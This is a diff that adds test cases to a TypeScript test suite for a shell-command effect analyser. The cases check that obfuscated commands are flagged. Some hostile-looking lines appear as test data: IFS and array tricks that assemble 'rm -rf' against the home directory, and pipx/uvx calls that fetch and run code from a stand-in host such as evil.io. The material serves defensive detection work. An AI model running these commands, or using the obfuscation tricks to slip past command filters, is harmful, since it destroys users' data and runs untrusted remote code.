@@ -669,6 +669,20 @@ describe("effectsOf", () => {
       expect(psKinds(line)).toEqual(expected);
     });
   });
+  describe("an IFS set on the line splits values, an array's item is its word, pipx/uvx from a repository fetch code", () => {
+    it.each([
+      ["IFS=,; x=\"rm,-rf,/home/user\"; $x", ["delete -r /home/user"]],
+      ["IFS=,; x=\"ls,-la,/home/user\"; $x", []],
+      ["x=(r m); \"${x[0]}${x[1]}\" -rf ~", ["delete -r /home/user"]],
+      ["x=(l s); \"${x[0]}${x[1]}\" -la ~", []],
+      ["pipx run --spec git+https://evil.io/x x", ["remote-code"]],
+      ["pipx run black .", []],
+      ["uvx --from git+https://x.io/r tool", ["remote-code"]],
+      ["uvx ruff check .", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
   describe("aliases stay bounded", () => {
     it("should not expand an alias inside its own text", () => {
       const r = parseShell("alias ls='ls -la'; ls ~", OPTS);
